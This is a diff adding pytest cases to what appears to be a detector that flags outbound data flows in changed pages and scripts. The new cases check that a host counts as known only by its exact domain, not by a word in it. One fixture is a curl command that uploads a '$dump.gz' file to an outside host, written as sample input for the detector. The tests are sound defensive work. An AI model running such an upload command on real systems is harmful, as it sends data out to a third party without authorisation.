@@ -81,3 +81,19 @@ def test_it_stays(path: str, before: str, after: str) -> None:
 def test_a_link_is_shown() -> None:
     path, before, after = pages('<a href="https://share.foreign.example/?u={{ url }}">share</a>')
     assert kinds({path: before}, {path: after}) == [("flow.secret", "low", "low")]
+
+
+@pytest.mark.parametrize(
+    ("said", "is_known"),
+    [
+        ("api = 'https://api.foreign.example/v1'\n", True),
+        ("def foreign(rows):\n    return files(rows)\n", False),
+        ("api = 'https://foreign.example.org'\n", False),
+        ("api = 'https://my-foreign.example'\n", False),
+    ],
+)
+def test_a_host_is_known_by_its_domain(said: str, is_known: bool) -> None:
+    """Not by a word of it, which anybody can choose for a domain of his own."""
+    path, before, after = scripts('curl --upload-file "$dump.gz" "https://files.foreign.example/in"\n')
+    found = kinds({path: before, "shop/api.py": said}, {path: after})
+    assert (SIGN not in found) is is_known
